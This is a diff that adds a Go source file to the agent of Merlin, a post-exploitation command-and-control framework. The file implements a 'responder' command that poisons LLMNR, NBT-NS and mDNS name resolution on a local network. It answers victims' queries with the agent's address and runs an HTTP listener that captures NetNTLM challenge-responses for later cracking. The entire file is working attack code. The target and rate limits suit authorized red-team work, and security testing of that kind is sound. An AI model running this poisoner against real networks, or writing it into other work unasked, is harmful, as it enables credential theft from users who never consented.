@@ -0,0 +1,399 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"crypto/rand"
+	"encoding/binary"
+	"fmt"
+	"net"
+	"net/http"
+	"strconv"
+	"strings"
+	"sync"
+	"text/tabwriter"
+	"time"
+
+	// X Packages
+	"golang.org/x/net/dns/dnsmessage"
+	"golang.org/x/net/ipv4"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cleanup"
+	"github.com/Ne0nd0g/merlin-agent/cli"
+)
+
+const (
+	// defaultResponderSeconds is how long the responder runs when a duration is not provided
+	defaultResponderSeconds = 300
+	// poisonInterval is the least amount of time between answers to the same client for the same name
+	poisonInterval = 30 * time.Second
+	// poisonTTL is the time to live, in seconds, of poisoned answers
+	poisonTTL = 30
+)
+
+// responder is the running LLMNR, NBT-NS, and mDNS poisoner, only one runs at a time
+var responder struct {
+	sync.Mutex
+	running   bool
+	ip        net.IP
+	started   time.Time
+	targets   []*net.IPNet
+	names     []string
+	answered  map[string]time.Time
+	answers   []string
+	closers   []func() error
+	stop      chan struct{}
+	remove    func()
+	challenge [8]byte
+}
+
+// Responder answers LLMNR, NBT-NS, and mDNS name queries with the agent's address so clients connect to it and
+// records the NetNTLM challenge-responses from clients that authenticate to its HTTP listener. Answers are limited
+// to the target networks and names, one answer per client and name every 30 seconds, and the duration
+// responder start <agent IPv4 address> [seconds] [target CIDRs|any] [names|any] [http]
+// responder status
+// responder hashes
+// responder stop
+func Responder(cmd jobs.Command) (results jobs.Results, structured Structured) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering Responder() with %+v", cmd))
+	}
+	if len(cmd.Args) < 1 {
+		results.Stderr = "not enough arguments provided to the responder command"
+		return
+	}
+
+	switch strings.ToLower(cmd.Args[0]) {
+	case "start":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "not enough arguments provided to the responder start command"
+			return
+		}
+		results.Stdout, results.Stderr = startResponder(cmd.Args[1:])
+	case "status":
+		responder.Lock()
+		state := "stopped"
+		if responder.running {
+			state = fmt.Sprintf("running on %s since %s", responder.ip, responder.started.Format(time.RFC3339))
+		}
+		results.Stdout = fmt.Sprintf("Responder is %s\n%s", state, strings.Join(responder.answers, "\n"))
+		responder.Unlock()
+	case "hashes":
+		hashes := capturedHashes()
+		var sb strings.Builder
+		w := tabwriter.NewWriter(&sb, 0, 0, 2, ' ', 0)
+		fmt.Fprintln(w, "Time\tSource\tProtocol\tVersion\tHash")
+		for _, h := range hashes {
+			fmt.Fprintf(w, "%s\t%s\t%s\t%s\t%s\n", h.Time.Format(time.RFC3339), h.Source, h.Protocol, h.Version, h.Hash)
+		}
+		_ = w.Flush()
+		results.Stdout = sb.String()
+		structured = newStructured("ntlm", hashes)
+	case "stop":
+		if !stopResponder() {
+			results.Stderr = "the responder is not running"
+			return
+		}
+		results.Stdout = fmt.Sprintf("Stopped the responder, %d hashes captured", len(capturedHashes()))
+	default:
+		results.Stderr = fmt.Sprintf("unknown responder command: %s", cmd.Args[0])
+	}
+	return
+}
+
+// startResponder parses the start arguments and starts the poisoners and, optionally, the HTTP capture listener
+func startResponder(args []string) (stdout, stderr string) {
+	responder.Lock()
+	defer responder.Unlock()
+	if responder.running {
+		return "", fmt.Sprintf("the responder is already running on %s", responder.ip)
+	}
+
+	ip := net.ParseIP(args[0]).To4()
+	if ip == nil {
+		return "", fmt.Sprintf("%s is not an IPv4 address", args[0])
+	}
+	iface, err := interfaceByIP(ip)
+	if err != nil {
+		return "", err.Error()
+	}
+	seconds := defaultResponderSeconds
+	if len(args) > 1 {
+		if seconds, err = strconv.Atoi(args[1]); err != nil || seconds < 1 {
+			return "", fmt.Sprintf("%s is not a valid number of seconds", args[1])
+		}
+	}
+	var targets []*net.IPNet
+	if len(args) > 2 && args[2] != "any" {
+		for _, cidr := range strings.Split(args[2], ",") {
+			if !strings.Contains(cidr, "/") {
+				cidr += "/32"
+			}
+			_, n, err := net.ParseCIDR(cidr)
+			if err != nil {
+				return "", fmt.Sprintf("%s is not a valid target: %s", cidr, err)
+			}
+			targets = append(targets, n)
+		}
+	}
+	var names []string
+	if len(args) > 3 && args[3] != "any" {
+		names = strings.Split(strings.ToLower(args[3]), ",")
+	}
+	if _, err = rand.Read(responder.challenge[:]); err != nil {
+		return "", fmt.Sprintf("there was an error generating the NTLM server challenge: %s", err)
+	}
+
+	responder.ip, responder.targets, responder.names = ip, targets, names
+	responder.answered, responder.answers, responder.closers = make(map[string]time.Time), nil, nil
+	stop := make(chan struct{})
+	responder.stop = stop
+
+	for _, p := range []struct {
+		name   string
+		port   int
+		group  net.IP
+		answer func([]byte) ([]byte, string)
+	}{
+		{"llmnr", 5355, net.IPv4(224, 0, 0, 252), dnsAnswer},
+		{"mdns", 5353, net.IPv4(224, 0, 0, 251), dnsAnswer},
+		{"nbns", 137, nil, nbnsAnswer},
+	} {
+		conn, err := net.ListenPacket("udp4", fmt.Sprintf(":%d", p.port))
+		if err != nil {
+			stderr += fmt.Sprintf("there was an error listening for %s: %s\n", p.name, err)
+			continue
+		}
+		if p.group != nil {
+			if err = ipv4.NewPacketConn(conn).JoinGroup(iface, &net.UDPAddr{IP: p.group}); err != nil {
+				stderr += fmt.Sprintf("there was an error joining the %s multicast group: %s\n", p.name, err)
+				_ = conn.Close()
+				continue
+			}
+		}
+		responder.closers = append(responder.closers, conn.Close)
+		go poison(conn, p.name, p.answer)
+		stdout += fmt.Sprintf("Answering %s queries on UDP %d\n", p.name, p.port)
+	}
+	if len(args) > 4 && strings.EqualFold(args[4], "http") {
+		ln, err := net.Listen("tcp4", net.JoinHostPort(ip.String(), "80"))
+		if err != nil {
+			stderr += fmt.Sprintf("there was an error listening for HTTP: %s\n", err)
+		} else {
+			server := &http.Server{
+				Handler:           ntlmHTTPHandler(responder.challenge, "WORKGROUP", "FILESERVER", responderCaptured),
+				ReadHeaderTimeout: 10 * time.Second,
+			}
+			responder.closers = append(responder.closers, server.Close)
+			go func() { _ = server.Serve(ln) }()
+			stdout += fmt.Sprintf("Capturing NTLM authentication on HTTP %s\n", ln.Addr())
+		}
+	}
+	if len(responder.closers) == 0 {
+		return "", stderr
+	}
+	responder.running, responder.started = true, time.Now()
+	responder.remove = cleanup.Add(cleanup.LISTENER, "responder on "+ip.String(), func() error {
+		stopResponder()
+		return nil
+	})
+	go func() {
+		select {
+		case <-time.After(time.Duration(seconds) * time.Second):
+			stopResponder()
+		case <-stop:
+		}
+	}()
+	stdout += fmt.Sprintf("The responder stops in %d seconds", seconds)
+	return
+}
+
+// stopResponder closes the responder's listeners and returns false if it was not running
+func stopResponder() bool {
+	responder.Lock()
+	defer responder.Unlock()
+	if !responder.running {
+		return false
+	}
+	for _, closer := range responder.closers {
+		_ = closer()
+	}
+	close(responder.stop)
+	responder.remove()
+	responder.running = false
+	if cli.Enabled {
+		cli.Message(cli.NOTE, fmt.Sprintf("Stopped the responder after %d answers", len(responder.answers)))
+	}
+	return true
+}
+
+// responderCaptured records a challenge-response captured by the responder's HTTP listener
+func responderCaptured(hash NTLMHash) {
+	if recordHash(hash) {
+		if cli.Enabled {
+			cli.Message(cli.SUCCESS, fmt.Sprintf("Captured %s hash for %s\\%s from %s", hash.Version, hash.Domain, hash.User, hash.Source))
+		}
+	}
+}
+
+// poison answers queries received on the connection until it is closed
+func poison(conn net.PacketConn, protocol string, answer func([]byte) ([]byte, string)) {
+	buf := make([]byte, 1500)
+	for {
+		n, addr, err := conn.ReadFrom(buf)
+		if err != nil {
+			return
+		}
+		source := addr.(*net.UDPAddr).IP
+		response, name := answer(buf[:n])
+		if response == nil || !shouldPoison(source, name) {
+			continue
+		}
+		if _, err = conn.WriteTo(response, addr); err == nil {
+			responder.Lock()
+			responder.answers = append(responder.answers, fmt.Sprintf("%s answered %s for %s from %s", time.Now().UTC().Format(time.RFC3339), protocol, name, source))
+			responder.Unlock()
+		}
+	}
+}
+
+// shouldPoison applies the responder's scope and rate limits to a query from the source for the name
+func shouldPoison(source net.IP, name string) bool {
+	responder.Lock()
+	defer responder.Unlock()
+	if source.Equal(responder.ip) {
+		return false
+	}
+	if len(responder.targets) > 0 {
+		var in bool
+		for _, target := range responder.targets {
+			if target.Contains(source) {
+				in = true
+			}
+		}
+		if !in {
+			return false
+		}
+	}
+	if len(responder.names) > 0 {
+		var match bool
+		for _, n := range responder.names {
+			if strings.EqualFold(strings.TrimSuffix(name, ".local"), n) {
+				match = true
+			}
+		}
+		if !match {
+			return false
+		}
+	}
+	key := source.String() + "|" + strings.ToLower(name)
+	if last, ok := responder.answered[key]; ok && time.Since(last) < poisonInterval {
+		return false
+	}
+	responder.answered[key] = time.Now()
+	return true
+}
+
+// dnsAnswer answers an LLMNR or mDNS query for an IPv4 address with the responder's address
+func dnsAnswer(query []byte) ([]byte, string) {
+	var p dnsmessage.Parser
+	header, err := p.Start(query)
+	if err != nil || header.Response {
+		return nil, ""
+	}
+	question, err := p.Question()
+	if err != nil || (question.Type != dnsmessage.TypeA && question.Type != dnsmessage.TypeALL) {
+		return nil, ""
+	}
+	name := strings.TrimSuffix(question.Name.String(), ".")
+	// mDNS sets the top bit of the class to request a unicast response
+	question.Class &= 0x7fff
+
+	responder.Lock()
+	ip := responder.ip
+	responder.Unlock()
+	var a [4]byte
+	copy(a[:], ip)
+	b := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: header.ID, Response: true, Authoritative: true})
+	b.EnableCompression()
+	if b.StartQuestions() != nil || b.Question(question) != nil || b.StartAnswers() != nil {
+		return nil, ""
+	}
+	if b.AResource(dnsmessage.ResourceHeader{Name: question.Name, Class: dnsmessage.ClassINET, TTL: poisonTTL}, dnsmessage.AResource{A: a}) != nil {
+		return nil, ""
+	}
+	response, err := b.Finish()
+	if err != nil {
+		return nil, ""
+	}
+	return response, name
+}
+
+// nbnsAnswer answers a NetBIOS name query with the responder's address
+func nbnsAnswer(query []byte) ([]byte, string) {
+	// Header (12), encoded name (34), type (2), and class (2)
+	if len(query) < 50 || query[2]&0xf8 != 0 || query[12] != 0x20 {
+		return nil, ""
+	}
+	encoded := query[12:46]
+	if binary.BigEndian.Uint16(query[46:48]) != 0x20 {
+		return nil, ""
+	}
+	name := make([]byte, 16)
+	for i := range name {
+		name[i] = (encoded[1+i*2]-'A')<<4 | (encoded[2+i*2] - 'A')
+	}
+	// The last byte is the NetBIOS suffix, only answer workstation (0x00) and server (0x20) names
+	if name[15] != 0x00 && name[15] != 0x20 {
+		return nil, ""
+	}
+
+	responder.Lock()
+	ip := responder.ip
+	responder.Unlock()
+	response := make([]byte, 0, 62)
+	response = append(response, query[0], query[1], 0x85, 0x00, 0, 0, 0, 1, 0, 0, 0, 0)
+	response = append(response, encoded...)
+	response = append(response, 0, 0x20, 0, 1)
+	response = binary.BigEndian.AppendUint32(response, poisonTTL)
+	response = append(response, 0, 6, 0, 0)
+	response = append(response, ip...)
+	return response, strings.TrimSpace(string(name[:15]))
+}
+
+// interfaceByIP returns the network interface that has the IP address
+func interfaceByIP(ip net.IP) (*net.Interface, error) {
+	ifaces, err := net.Interfaces()
+	if err != nil {
+		return nil, err
+	}
+	for i := range ifaces {
+		addrs, _ := ifaces[i].Addrs()
+		for _, addr := range addrs {
+			if n, ok := addr.(*net.IPNet); ok && n.IP.Equal(ip) {
+				return &ifaces[i], nil
+			}
+		}
+	}
+	return nil, fmt.Errorf("there is no interface with the address %s", ip)
+}